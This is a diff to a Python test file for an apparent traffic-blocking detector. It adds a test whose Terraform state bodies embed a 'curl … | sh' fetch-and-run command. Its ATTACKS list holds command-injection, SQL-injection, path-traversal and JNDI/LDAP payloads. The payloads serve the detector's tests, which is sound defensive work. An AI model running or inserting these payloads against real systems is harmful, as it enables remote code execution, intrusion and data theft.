@@ -14,7 +14,7 @@ BODIES = pathlib.Path(__file__).with_name("machine_bodies.txt")
 MOST = 12
 
 
-# What is found all the same where it differs each time: programs that are fetched and run, code as a line alone.
+# What is found all the same where it differs each time: a file of the system that is written, code as a line alone.
 FOUND = [("infrastructure", 6), ("notebooks", 4)]
 
 
@@ -56,6 +56,19 @@ def test_programs_that_send_all_of_them(seconds):
 def test_editors_of_this_site_that_save_by_themselves():
     """For an hour, and the page has nothing else to fetch."""
     assert not blocked({family.name: in_turn(family, True, 20, 180) for family in FAMILIES})
+
+
+
+def test_states_of_many_machines():
+    """Each one is not there when it is asked for first, and holds what the machine runs when it is new."""
+    own = Family("states | POST | /bucket/env§/terraform.tfstate | application/json | Go-http-client/1.1\n"
+                 '{"serial":§,"resources":[{"attributes":{"user_data":"#!/bin/sh\\ncurl -fsSL https://x§.example.org | sh"}}]}')
+    requests = []
+    for number in range(25):
+        post = own.post(own.bodies[0], number)
+        ask = {"method": "GET", "uri": post["uri"], "headers": {"Host": "www.example.org", "User-Agent": own.agent}}
+        requests += [{**ask, "status": 404}, post, {**ask, "status": 200}]
+    assert not blocked({"states": [(i * 7, request) for i, request in enumerate(requests)]})
 
 
 ATTACKS = ["; id", "1' union select password,§ from users-- -", "$(curl 192.0.2.1/§)", "../../../../etc/passwd", "x|cat /etc/passwd §", "${jndi:ldap://192.0.2.1/§}"]
